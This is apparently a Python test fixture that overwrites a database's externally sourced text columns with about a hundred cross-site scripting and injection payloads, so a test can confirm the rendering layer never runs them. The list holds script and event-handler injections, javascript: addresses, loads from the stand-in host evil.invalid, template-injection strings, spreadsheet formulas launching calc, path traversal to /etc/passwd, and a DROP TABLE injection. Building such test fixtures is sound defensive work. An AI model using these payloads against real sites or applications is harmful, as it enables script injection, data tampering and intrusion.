"""A database in which every text that comes from outside is an attack on the reader's browser.

A hundred payloads of the known kinds: script elements, event handlers, addresses that are code,
broken quoting, mixed encodings, template syntax, styles, SVG and MathML, comments, spreadsheet
formulas, text that reorders its neighbours, path tricks.
"""

from __future__ import annotations

import itertools
import sqlite3
from pathlib import Path

# What every payload would do if it ran; the test looks for the mark it leaves.
RUN = "window.executed=1"

_EVENTS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter"]  # fmt: skip
_ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f" javascript:{RUN}",
    f"\x01javascript:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZXhlY3V0ZWQ9MTwvc2NyaXB0Pg==",
    f"//evil.invalid/{RUN}", f"https://sample.invalid/\"onmouseover=\"{RUN}", f"https://sample.invalid/'><script>{RUN}</script>",
    f"http://sample.invalid/?a=</a><img src=x onerror={RUN}>", f"blob:https://sample.invalid/{RUN}", f"file:///etc/passwd#{RUN}",
    f"view-source:javascript:{RUN}", f"https:javascript:{RUN}", f"http://[::1/{RUN}",
]  # fmt: skip
_MARKUP = [
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", "<script src=//evil.invalid/x.js></script>",
    f"<script/x>{RUN}</script>", f"<<script>{RUN}//<</script>", f"<script\x00>{RUN}</script>", f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>",
    f"`><script>{RUN}</script>", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"</noscript><script>{RUN}</script>", f"</mark></blockquote><script>{RUN}</script>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\">", f"<iframe src=javascript:parent.{RUN}>", f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>", "<base href=//evil.invalid/>", f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.invalid/\">", "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';</style>", "<style>body{background:url(//evil.invalid/x)}</style>", "<form action=//evil.invalid><button>x",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe onload={RUN}>", f"<template><script>{RUN}</script></template>", f"<video><source onerror={RUN}>",
    f"<details open ontoggle={RUN}>", f"<input autofocus onfocus={RUN}>", f"<marquee onstart={RUN}>", f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"\" autofocus onfocus=\"{RUN}", f"' autofocus onfocus='{RUN}", f"\" style=\"animation-name:x\" onanimationstart=\"{RUN}",
    f"x\" onmouseover={RUN} x=\"", f"{{{{{RUN}}}}}", f"${{{RUN}}}", "{{ config }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}",
    "<%= system('id') %>", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"＜script＞{RUN}＜/script＞",
    "=HYPERLINK(\"https://evil.invalid\",\"x\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "\t=1+1",
    "\u202egnp.exe\u202c", "\u2066evil\u2069", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "a" * 3_000, "\u0301" * 300,
    "'; DROP TABLE claims; --", "\" OR 1=1 --", "\ufeff<script>" + RUN + "</script>", "\ud7ff\uffff\ufffe", "",
]  # fmt: skip
_HANDLERS = [f"<img src=x {event}={RUN}>" for event in _EVENTS]
PAYLOADS = [*_MARKUP, *_HANDLERS, *_ADDRESSES]
PAYLOADS = PAYLOADS[:-1] if len(PAYLOADS) % 2 else PAYLOADS

# Columns that hold what others wrote.
FOREIGN = {
    "sources": ["title", "publisher", "url", "licence", "licence_url"],
    "captures": ["url", "message", "media_type", "warc_file"],
    "documents": ["url", "title", "text", "media_type", "name", "parent_url", "message"],
    "organizations": ["name", "name_en", "name_zh", "website", "wikidata", "lei", "registration", "description"],
    "organization_names": ["name"],
    "listings": ["list", "programme", "source_url", "note"],
    "notices": ["title", "description", "buyer_name", "procedure", "region", "url", "source_notice_id", "currency"],
    "notice_items": ["description"],
    "notice_suppliers": ["name", "currency"],
    "products": ["name", "url"],
    "partnerships": ["note"],
    "claims": ["quote", "context", "citation", "term"],
    "claim_passages": ["quote", "context", "term"],
    "removals": ["url", "title", "note"],
    "reported_systems": ["title", "summary", "summary_zh", "publication", "publisher", "url", "answer", "answer_by"],
    "runs": ["finish_reason"],
    "failures": ["reason", "position", "url"],
}  # fmt: skip


def poison(path: Path) -> Path:
    """Replace every foreign text of the database at ``path``, each row by another payload."""
    connection = sqlite3.connect(path)
    payloads = itertools.cycle(PAYLOADS)
    for table, columns in FOREIGN.items():
        keys = [row[0] for row in connection.execute(f"SELECT rowid FROM {table}")]
        for rowid in keys:
            for column in columns:
                given = next(payloads)
                if column in ("text", "context"):
                    given = "\n".join(PAYLOADS)
                if table in ("organizations", "organization_names", "listings") and not given:
                    given = PAYLOADS[0]
                connection.execute(
                    f'UPDATE OR IGNORE {table} SET "{column}" = ? WHERE rowid = ?', (given, rowid)
                )
    connection.commit()
    connection.close()
    return path
